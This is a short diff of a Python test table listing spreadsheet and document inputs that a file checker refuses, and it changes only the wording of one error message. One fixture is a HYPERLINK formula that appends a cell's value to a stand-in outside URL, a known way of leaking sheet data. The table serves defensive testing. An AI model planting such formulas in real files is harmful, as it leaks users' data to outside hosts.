@@ -580,7 +580,7 @@ REFUSED = {
     "link": (_formula('HYPERLINK("http://x.example/?"&A1,"看")'), "a formula whose link is put together"),
     "xls": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "save it as .xlsx"),
     "no zip": (b"PK\3\4xl/workbook.xml", "the file is broken"),
-    "text": (b"a,b", "no Word document"),
+    "text": (b"a,b", "this is not a Word document"),
 }  # fmt: skip
 
 
